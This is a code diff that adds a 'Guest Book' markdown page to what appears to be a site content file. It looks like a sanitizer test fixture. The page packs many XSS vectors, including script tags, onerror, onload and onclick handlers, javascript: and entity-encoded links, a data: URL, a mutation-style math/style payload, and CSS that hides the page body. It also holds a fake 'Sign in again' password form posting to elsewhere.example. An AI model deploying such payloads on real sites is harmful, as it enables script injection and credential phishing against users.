@@ -89,6 +89,39 @@ Most of what we publish needs **nothing at all**. If you want to buy something, 
 
 Recordings stay in the guide for as long as the channel's catch-up window allows.`,
   },
+  {
+    slug: 'guest-book',
+    title: 'Guest Book',
+    markdown: `# Guest book
+
+What members wrote, just as they wrote it. <script>document.title = "taken over"</script>
+
+## Best first lines
+
+1. "I came for the *music*."
+2. "My **knees** sent me."
+3. "<b>Bold</b> of you to ask." <img src="x" onerror="document.title = 'taken over'">
+
+| Who | From | Note |
+| --- | :---: | ---: |
+| Ines | [Lisbon](https://en.wikipedia.org/wiki/Lisbon) | 10 |
+| Bo | [Here](javascript:document.title='taken%20over') | 9 |
+| Kit | <a href="java&#115;cript:document.title='taken over'">There</a> | 8 |
+| Ada | [The 365](/app/365) | 10 |
+
+- <a href="https://daybreak.example/" onclick="document.title = 'taken over'">Our old page</a>
+- [A picture of a cat](data:text/html,<script>document.title='taken over'</script>)
+- <svg onload="document.title = 'taken over'"></svg> a drawing that did not survive
+- <iframe src="javascript:parent.document.title = 'taken over'"></iframe> a film that did not either
+
+<form action="https://elsewhere.example/collect"><input name="password"><button>Sign in again</button></form>
+
+<style>body { display: none }</style>
+
+> Thank you all. <math><mtext></mtext><style><img src=x onerror="document.title = 'taken over'"></style></math>
+
+\`<script>\` between backticks is only text.`,
+  },
 ];
 
 export const HUBS: readonly HubWords[] = [
